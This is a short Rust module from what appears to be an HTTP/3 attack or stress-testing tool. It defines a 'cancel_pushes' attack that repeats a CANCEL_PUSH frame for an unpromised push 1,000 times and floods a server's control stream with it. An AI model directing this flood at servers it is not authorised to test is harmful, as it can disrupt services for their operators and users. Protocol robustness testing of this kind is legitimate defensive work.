//! CANCEL_PUSH frames, for pushes that nobody promised.

use crate::attacker::{Attack, Attacker};
use crate::flood;
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("cancel_pushes", "CANCEL_PUSH frames", run);

fn run(a: &mut Attacker) {
    let frames = wire::frame(0x03, &[0]).repeat(1_000);
    flood::control(a, &frames, 1_000);
}
